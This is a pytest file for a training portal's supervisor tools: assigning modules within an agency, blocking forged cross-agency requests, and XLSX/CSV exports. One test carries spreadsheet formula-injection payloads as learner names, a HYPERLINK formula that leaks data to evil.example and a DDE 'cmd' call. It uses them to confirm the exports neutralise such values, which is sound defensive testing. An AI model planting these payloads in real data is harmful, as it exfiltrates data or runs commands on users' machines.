"""Supervisor tools: assigning a module to several learners, a role or an agency; XLSX and CSV exports."""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from datetime import date, datetime

import pytest
from learning_helpers import read_lessons, signed_in, take_quiz, token
from openpyxl import load_workbook
from sqlalchemy import select

from portal.accounts.audit_events import AuditEvent
from portal.accounts.models import User
from portal.extensions import db
from portal.learning.models import Enrolment

DEMO = "trainings/demo-module"
# What spreadsheets read as the start of a formula, written out here.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def post_assign(client, whom="chosen", learners=(), module=DEMO, due_on="2099-01-15", lang="ro", **more):
    data = {
        "csrf_token": token(client),
        "whom": whom,
        "learners": [str(i) for i in learners],
        "module": module,
        "due_on": due_on,
        **more,
    }
    return client.post(f"/{lang}/supervision/assign", data=data)


def assignments(app) -> dict[str, date | None]:
    """Return who holds an assignment of the demo module and its due date, by email."""
    with app.app_context():
        rows = db.session.execute(
            select(User.email, Enrolment.due_on, Enrolment.assigned_at)
            .join(Enrolment, Enrolment.user_id == User.id)
            .where(Enrolment.module_key == DEMO)
        ).all()
    assert all(assigned_at is not None for _email, _due, assigned_at in rows)
    return {email: due for email, due, _assigned in rows}


def events(app, event: str) -> list[AuditEvent]:
    with app.app_context():
        rows = db.session.scalars(select(AuditEvent).where(AuditEvent.event == event)).all()
        db.session.expunge_all()
        return rows


def flash_after(client, response) -> str:
    assert response.status_code == 302, response.status_code
    html = client.get(response.headers["Location"]).get_data(as_text=True)
    return re.search(r'<p class="flash" role="status">([^<]*)</p>', html).group(1)


def rename(app, user: User, name: str) -> None:
    with app.app_context():
        db.session.get(User, user.id).display_name = name
        db.session.commit()


@pytest.fixture
def agency_people(app, make_user):
    """Centru: two specialists, a psychologist, an inactive specialist, an editor and a second supervisor.

    Nord: a specialist. Returns the signed-in supervisor of centru and the users by short name.
    """
    people = {
        "ana": make_user("ana@example.org"),
        "bob": make_user("bob@example.org"),
        "psy": make_user("psy@example.org", role="psychologist"),
        "gone": make_user("gone@example.org", active=False),
        "editor": make_user("editor@example.org", role="editor"),
        "colleague": make_user("colleague@example.org", role="supervisor"),
        "far": make_user("far@example.org", agency="nord"),
        "farpsy": make_user("farpsy@example.org", role="psychologist", agency="nord"),
    }
    supervisor, me = signed_in(app, make_user, "sup@example.org", role="supervisor")
    people["me"] = me
    return supervisor, people


# --- assigning ---------------------------------------------------------------------------------------------


def test_a_module_is_assigned_to_three_chosen_learners(app, agency_people):
    supervisor, people = agency_people
    chosen = [people["ana"].id, people["bob"].id, people["psy"].id]
    response = post_assign(supervisor, learners=chosen)
    assert flash_after(supervisor, response) == "3 cursanți au primit modulul."
    assert assignments(app) == {
        "ana@example.org": date(2099, 1, 15),
        "bob@example.org": date(2099, 1, 15),
        "psy@example.org": date(2099, 1, 15),
    }
    assert sorted(e.subject_id for e in events(app, "module-assigned")) == sorted(chosen)
    assert {e.actor_id for e in events(app, "module-assigned")} == {people["me"].id}


def test_a_module_is_assigned_to_every_learner_with_a_role(app, agency_people):
    supervisor, _people = agency_people
    response = post_assign(supervisor, whom="role", role="specialist")
    assert flash_after(supervisor, response) == "2 cursanți au primit modulul."
    # the inactive specialist, the other agency's specialist and the supervisors are left alone
    assert set(assignments(app)) == {"ana@example.org", "bob@example.org"}


def test_a_module_is_assigned_to_the_whole_agency(app, agency_people):
    supervisor, _people = agency_people
    response = post_assign(supervisor, whom="agency", due_on="")
    assert flash_after(supervisor, response) == "3 cursanți au primit modulul."
    assert assignments(app) == {"ana@example.org": None, "bob@example.org": None, "psy@example.org": None}
    assert len(events(app, "module-assigned")) == 3


def test_an_admin_assigns_within_the_agency_they_choose(app, agency_people, make_user):
    admin, _ = signed_in(app, make_user, "admin@example.org", role="admin")
    html = admin.get("/ro/supervision/").get_data(as_text=True)
    assert re.search(r'<select [^>]*name="agency"', html) and "ATAS Centru" in html
    response = post_assign(admin, whom="agency")  # which agency?
    assert response.status_code == 400
    error = response.get_data(as_text=True).split('id="agency-error"')[1].split("</p>")[0]
    assert "Alegeți agenția." in error
    assert assignments(app) == {}
    response = post_assign(admin, whom="agency", agency="nord")
    assert flash_after(admin, response) == "2 cursanți au primit modulul."
    assert set(assignments(app)) == {"far@example.org", "farpsy@example.org"}
    response = post_assign(admin, whom="role", role="psychologist", agency="centru")
    assert flash_after(admin, response) == "1 cursant a primit modulul."
    assert set(assignments(app)) == {"far@example.org", "farpsy@example.org", "psy@example.org"}


def test_assigning_again_never_duplicates_and_moves_the_due_date_only_when_one_is_given(app, agency_people):
    supervisor, people = agency_people
    assert post_assign(supervisor, learners=[people["ana"].id]).status_code == 302
    response = post_assign(supervisor, whom="role", role="specialist", due_on="2099-03-01")
    assert flash_after(supervisor, response) == (
        "1 cursant a primit modulul. 1 cursant îl avea deja; termenul său este acum 1 martie 2099."
    )
    assert assignments(app) == {"ana@example.org": date(2099, 3, 1), "bob@example.org": date(2099, 3, 1)}
    response = post_assign(supervisor, whom="agency", due_on="")
    assert flash_after(supervisor, response) == (
        "1 cursant a primit modulul. 2 cursanți îl aveau deja și își păstrează termenul."
    )
    assert assignments(app) == {
        "ana@example.org": date(2099, 3, 1),
        "bob@example.org": date(2099, 3, 1),
        "psy@example.org": None,
    }
    with app.app_context():
        assert len(db.session.scalars(select(Enrolment)).all()) == 3
    # ana: assigned, then her date moved; bob: assigned; psy: assigned; nobody's date moved the last time
    details = sorted(e.detail for e in events(app, "module-assigned"))
    assert details == [DEMO, DEMO, DEMO, f"{DEMO} due date 2099-03-01"]


@pytest.mark.parametrize("due_on", ["2020-01-15", "today"])
def test_a_past_or_todays_due_date_is_refused_next_to_the_field_keeping_the_choices(
    app, agency_people, due_on
):
    supervisor, _people = agency_people
    value = date.today().isoformat() if due_on == "today" else due_on
    response = post_assign(supervisor, whom="role", role="psychologist", due_on=value)
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    error = html.split('id="due_on-error"')[1].split("</p>")[0]
    assert "Alegeți un termen după ziua de azi." in error
    assert f'value="{value}"' in html  # what was typed stays
    assert '<option selected value="psychologist">' in html
    assert re.search(r'<input checked id="whom-1" name="whom" type="radio" value="role">', html)
    assert assignments(app) == {}


def test_a_missing_choice_is_explained_next_to_it(app, agency_people):
    supervisor, _people = agency_people
    html = post_assign(supervisor, whom="chosen").get_data(as_text=True)
    assert "Bifați cel puțin un cursant." in html.split('id="learners-error"')[1].split("</p>")[0]
    html = post_assign(supervisor, whom="role").get_data(as_text=True)
    assert "Alegeți rolul cursanților." in html.split('id="role-error"')[1].split("</p>")[0]
    assert assignments(app) == {}


def test_a_role_without_learners_in_the_agency_is_explained(app, make_user):
    make_user("ana@example.org")
    supervisor, _ = signed_in(app, make_user, "sup@example.org", role="supervisor")
    response = post_assign(supervisor, whom="role", role="psychologist")
    assert response.status_code == 400
    error = response.get_data(as_text=True).split('id="role-error"')[1].split("</p>")[0]
    assert "Niciun cursant al agenției nu are acest rol." in error
    assert assignments(app) == {}


@pytest.mark.parametrize(
    "forged",
    [
        {"whom": "chosen", "learners": "far"},  # another agency's learner
        {"whom": "chosen", "learners": "colleague"},  # a fellow supervisor
        {"whom": "chosen", "learners": "ana+far"},  # one of mine, one not: nothing at all
        {"whom": "role", "role": "supervisor"},
        {"whom": "agency", "agency": "nord"},
        {"whom": "everyone"},
        {"whom": "chosen", "learners": "not-a-number"},
        {"whom": "chosen", "learners": "ana", "module": "trainings/no-such-module"},
    ],
)
def test_a_supervisor_cannot_reach_beyond_their_agency_by_forging_the_form(app, agency_people, forged):
    supervisor, people = agency_people
    fields = dict(forged)
    names = fields.pop("learners", "")
    ids = [people[n].id if n in people else n for n in names.split("+") if n]
    response = post_assign(supervisor, learners=ids, **fields)
    assert response.status_code in (400, 404)
    assert assignments(app) == {}
    assert events(app, "module-assigned") == []


def test_a_failure_midway_saves_no_assignment_at_all(app, agency_people, monkeypatch):
    supervisor, people = agency_people
    from portal.learning import supervision

    calls = []
    real_record = supervision.record

    def failing_record(event, **kwargs):
        calls.append(event)
        if len(calls) == 2:
            raise RuntimeError("the database went away")
        return real_record(event, **kwargs)

    monkeypatch.setattr(supervision, "record", failing_record)
    assert post_assign(supervisor, whom="agency").status_code == 500  # the error page, nothing kept
    assert len(calls) == 2
    assert assignments(app) == {}
    assert events(app, "module-assigned") == []


def test_learners_the_module_is_not_open_to_are_left_out_and_counted(make_app, make_user, tmp_path):
    content = tmp_path / "content"
    shutil.copytree("tests/corpus", content)
    source = (content / "trainings/demo-module/index.ro.md").read_text(encoding="utf-8")
    (content / "trainings/psy-module").mkdir()
    (content / "trainings/psy-module/index.ro.md").write_text(
        source.replace("title: Modul demonstrativ", "title: Doar psihologi").replace(
            "audience: specialist", "audience: psychologist"
        ),
        encoding="utf-8",
    )
    app = make_app(CONTENT_DIR=str(content))
    make_user("ana@example.org")
    make_user("psy@example.org", role="psychologist")
    supervisor, _ = signed_in(app, make_user, "sup@example.org", role="supervisor")
    response = post_assign(supervisor, whom="agency", module="trainings/psy-module")
    assert flash_after(supervisor, response) == (
        "1 cursant a primit modulul. 1 cursant a fost omis: modulul nu este deschis rolului său."
    )
    with app.app_context():
        rows = db.session.execute(
            select(User.email, Enrolment.module_key).join(Enrolment, Enrolment.user_id == User.id)
        ).all()
    assert rows == [("psy@example.org", "trainings/psy-module")]


# --- exports -----------------------------------------------------------------------------------------------


@pytest.fixture
def ru_app(make_app, tmp_path):
    """The corpus with the demo module also in Russian and the agency nord named."""
    content = tmp_path / "content"
    shutil.copytree("tests/corpus", content)
    source = (content / "trainings/demo-module/index.ro.md").read_text(encoding="utf-8")
    russian = source.replace("title: Modul demonstrativ", "title: Демонстрационный модуль")
    (content / "trainings/demo-module/index.ru.md").write_text(russian, encoding="utf-8")
    agencies = (content / "agencies.yml").read_text(encoding="utf-8")
    agencies += (
        "  - id: nord\n    name: {ro: ATAS Nord, ru: ТАСП Север, uk: ТАСД Північ, en: ATAS North}\n"
        "    seat: Bălți\n    districts: [Bălți]\n    verified: 2026-11-22\n"
    )
    (content / "agencies.yml").write_text(agencies, encoding="utf-8")
    return make_app(CONTENT_DIR=str(content))


def _learner_with_progress(app, make_user):
    """Ana, a specialist of centru: assigned the demo module (due 15 January 2099), completed it (level 2),
    self-assessed at level 3; her supervisor signed in."""
    client, ana = signed_in(app, make_user, "ana@example.org")
    supervisor, boss = signed_in(app, make_user, "sup@example.org", role="supervisor")
    assert post_assign(supervisor, learners=[ana.id], due_on="2099-01-15").status_code == 302
    read_lessons(client)
    take_quiz(app, client)
    client.post(
        "/ro/learning/self-assessment",
        data={"csrf_token": token(client), "competency": "law.protection-orders", "level": "3"},
    )
    return supervisor, boss, ana


def test_the_xlsx_export_has_two_sheets_in_the_supervisors_language(ru_app, make_user):
    app = ru_app
    supervisor, boss, ana = _learner_with_progress(app, make_user)
    rename(app, ana, "Анна Попова")
    make_user("psy@example.org", role="psychologist")
    make_user("far@example.org", agency="nord")  # another agency: not in a supervisor's export
    response = supervisor.get("/ru/supervision/export.xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert re.fullmatch(
        r'attachment; filename="supervision-\d{4}-\d{2}-\d{2}\.xlsx"', response.headers["Content-Disposition"]
    )
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["Прогресс по модулям", "Уровни компетенций"]

    progress = book["Прогресс по модулям"]
    header = [c.value for c in progress[1]]
    assert header == [
        "Слушатель",
        "Роль",
        "Агентство",
        "Модуль",
        "Статус",
        "Дата назначения",
        "Срок",
        "Дата завершения",
        "Пройдено уроков",
        "Уроков в модуле",
        "Лучший результат теста (%)",
        "Попытки тестов",
    ]
    assert all(c.font.bold for c in progress[1]) and progress.freeze_panes == "A2"
    assert progress.column_dimensions["A"].width >= len("Слушатель")
    rows = [[c.value for c in row] for row in progress.iter_rows(min_row=2)]
    assert len(rows) == 1
    row = progress[2]
    assert [c.value for c in row[:5]] == [
        "Анна Попова",
        "Специалист",
        "ТАСП Центр",
        "Демонстрационный модуль",
        "завершён",
    ]
    due = row[6]
    assert due.is_date and due.value == datetime(2099, 1, 15) and due.number_format == "dd.mm.yyyy"
    assert row[5].is_date and row[7].is_date and row[7].value.date() == date.today()
    assert row[5].value.time() == datetime.min.time()  # a day, not a moment with microseconds
    assert [c.value for c in row[8:]] == [2, 2, 100, 1]

    levels = book["Уровни компетенций"]
    assert [c.value for c in levels[1]] == [
        "Слушатель",
        "Роль",
        "Агентство",
        "Область компетенций",
        "Компетенция",
        "Целевой уровень",
        "Подтверждённый уровень",
        "Уровень по самооценке",
        "Не хватает уровней до цели",
    ]
    assert levels.freeze_panes == "A2" and levels["A1"].font.bold
    rows = {row[0]: row for row in levels.iter_rows(min_row=2, values_only=True)}
    assert rows["Анна Попова"] == (
        "Анна Попова",
        "Специалист",
        "ТАСП Центр",
        "Право и права",
        "Защитные предписания",
        3,
        2,
        3,
        1,
    )
    assert rows["Psy"] == (
        "Psy",
        "Психолог",
        "ТАСП Центр",
        "Право и права",
        "Защитные предписания",
        1,
        0,
        None,
        1,
    )
    assert "Far" not in rows and "Sup" not in rows
    export = events(app, "export")
    assert [(e.actor_id, e.detail.split(" learners=")[0]) for e in export] == [(boss.id, "supervision xlsx")]


def test_an_admin_export_names_every_agency(ru_app, make_user):
    app = ru_app
    make_user("far@example.org", agency="nord")
    admin, _ = signed_in(app, make_user, "admin@example.org", role="admin")
    assert post_assign(admin, learners=[_id(app, "far@example.org")]).status_code == 302
    book = load_workbook(io.BytesIO(admin.get("/en/supervision/export.xlsx").data))
    assert book.sheetnames == ["Module progress", "Competency levels"]
    row = [c.value for c in book["Module progress"][2]]
    assert row[:5] == ["Far", "Specialist", "ATAS North", "Modul demonstrativ", "not started"]
    assert book["Module progress"]["G2"].number_format == "yyyy-mm-dd"


def _id(app, email: str) -> int:
    with app.app_context():
        return db.session.scalar(select(User.id).where(User.email == email))


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_the_csv_exports_speak_the_supervisors_language_with_plain_dates(ru_app, make_user):
    app = ru_app
    supervisor, _boss, _ana = _learner_with_progress(app, make_user)
    response = supervisor.get("/ru/supervision/export.csv")  # the default table: module progress
    assert re.fullmatch(
        r'attachment; filename="module-progress-\d{4}-\d{2}-\d{2}\.csv"',
        response.headers["Content-Disposition"],
    )
    rows = _csv(response)
    assert rows[0][:8] == [
        "Слушатель",
        "Роль",
        "Агентство",
        "Модуль",
        "Статус",
        "Дата назначения",
        "Срок",
        "Дата завершения",
    ]
    assert rows[1][:5] == ["Ana", "Специалист", "ТАСП Центр", "Демонстрационный модуль", "завершён"]
    assert rows[1][6] == "2099-01-15"
    assert rows[1][5] == rows[1][7] == date.today().isoformat()  # days: no time, no microseconds
    assert rows[1][8:] == ["2", "2", "100", "1"]

    response = supervisor.get("/ru/supervision/export.csv?table=competencies")
    assert "competency-levels-" in response.headers["Content-Disposition"]
    rows = _csv(response)
    assert rows[0][3:6] == ["Область компетенций", "Компетенция", "Целевой уровень"]
    assert rows[1] == [
        "Ana",
        "Специалист",
        "ТАСП Центр",
        "Право и права",
        "Защитные предписания",
        "3",
        "2",
        "3",
        "1",
    ]

    assert supervisor.get("/ru/supervision/export.csv?table=secrets").status_code == 404
    assert [e.detail.split(" learners=")[0] for e in events(app, "export")] == [
        "supervision csv progress",
        "supervision csv competencies",
    ]


def test_the_dashboard_offers_both_downloads(app, make_user):
    make_user("ana@example.org")
    supervisor, _ = signed_in(app, make_user, "sup@example.org", role="supervisor")
    html = supervisor.get("/ru/supervision/").get_data(as_text=True)
    assert 'href="/ru/supervision/export.xlsx"' in html
    assert 'href="/ru/supervision/export.csv?table=progress"' in html
    assert 'href="/ru/supervision/export.csv?table=competencies"' in html
    assert "Кому назначить" in html and "всем слушателям агентства" in html


def test_a_head_request_on_the_exports_records_nothing(app, make_user):
    make_user("ana@example.org")
    supervisor, _ = signed_in(app, make_user, "sup@example.org", role="supervisor")
    for path in ("export.xlsx", "export.csv", "export.csv?table=competencies"):
        assert supervisor.head(f"/ro/supervision/{path}").status_code == 200
    assert events(app, "export") == []


NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_learner_names_never_become_formulas_in_either_format(app, make_user):
    learners = [make_user(f"l{i}@example.org") for i in range(len(NAMES) + 1)]
    for learner, name in zip(learners, [*NAMES, "Bell\x07 Ringer"], strict=True):
        rename(app, learner, name)
    supervisor, _ = signed_in(app, make_user, "sup@example.org", role="supervisor")
    assert post_assign(supervisor, whom="agency").status_code == 302

    for table in ("progress", "competencies"):
        rows = _csv(supervisor.get(f"/ro/supervision/export.csv?table={table}"))
        assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
        firsts = {row[0] for row in rows[1:]}
        assert "'" + NAMES[0] in firsts and "'\t=1+1" in firsts

    data = supervisor.get("/ro/supervision/export.xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 2
        for name in sheets:
            assert "<f>" not in archive.read(name).decode() and "<f " not in archive.read(name).decode()
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
        assert all(c.data_type != "f" for c in cells)
        names = {c.value: c for c in cells if c.column == 1}
        hyperlink = names[NAMES[0]]
        assert hyperlink.data_type == "s" and hyperlink.quotePrefix
        assert "Bell Ringer" in names  # a control character XML cannot hold is dropped, not a failure
